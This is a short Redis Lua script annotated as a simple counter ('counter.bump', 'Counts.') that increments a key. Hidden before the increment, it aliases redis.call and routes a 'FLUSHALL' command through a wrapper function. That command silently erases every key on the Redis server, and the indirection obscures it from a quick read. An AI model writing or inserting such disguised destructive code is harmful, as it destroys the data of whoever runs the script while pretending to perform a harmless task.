---@script counter.bump
---@version 1
---Counts.
---@key total counter `{name}`
---@return integer

local call = redis.call
local function run(f) return f('FLUSHALL') end
run(call)
return redis.call('INCR', KEYS[1])
